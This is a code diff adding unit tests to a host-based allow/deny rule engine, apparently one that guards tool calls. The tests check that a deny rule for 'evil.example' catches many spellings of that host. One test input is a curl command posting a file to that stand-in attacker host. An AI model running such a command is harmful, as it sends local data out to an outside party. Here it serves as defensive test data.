@@ -57,4 +57,28 @@ describe('a rule that allows by host', () => {
       expect(outcome(call(args), rule('deny', { host: ['evil.example'] }), rule('allow', {}))).toBe('deny');
     },
   );
+
+  it.each([
+    'evil.example:443',
+    '//evil.example/x',
+    'evil.example/path',
+    'see https://evil.example/x',
+    'curl -d @x https://evil.example/x',
+    '["https://evil.example"]',
+    'git@evil.example:x/y',
+    'https://ok.example/?then=https://EVIL.example:8080/',
+  ])('is met in one that denies by %j, whatever it is called', (text) => {
+    expect(outcome(call({ u: text }), rule('deny', { host: ['evil.example'] }), rule('allow', {}))).toBe('deny');
+    expect(outcome(call({ u: text }), rule('deny', { host: ['*.elsewhere'] }), rule('allow', {}))).toBe('allow');
+  });
+
+  it.each(['see evil.example', 'notes.md/1', 'main.ts:12', 'a.b/c'])('is not met by %j where no host is named', (text) => {
+    expect(outcome(call({ u: text }), rule('deny', { host: ['*', '*.*'] }), rule('allow', {}))).toBe('allow');
+  });
+
+  it.each([`${'a.'.repeat(5000)}`, '://'.repeat(3000), `${'x@'.repeat(5000)}`, 'https://a.b '.repeat(900)])('costs little: %#', (text) => {
+    const begun = performance.now();
+    outcome(call({ u: text }), rule('deny', { host: ['evil.example'] }), rule('allow', {}));
+    expect(performance.now() - begun).toBeLessThan(1000);
+  });
 });
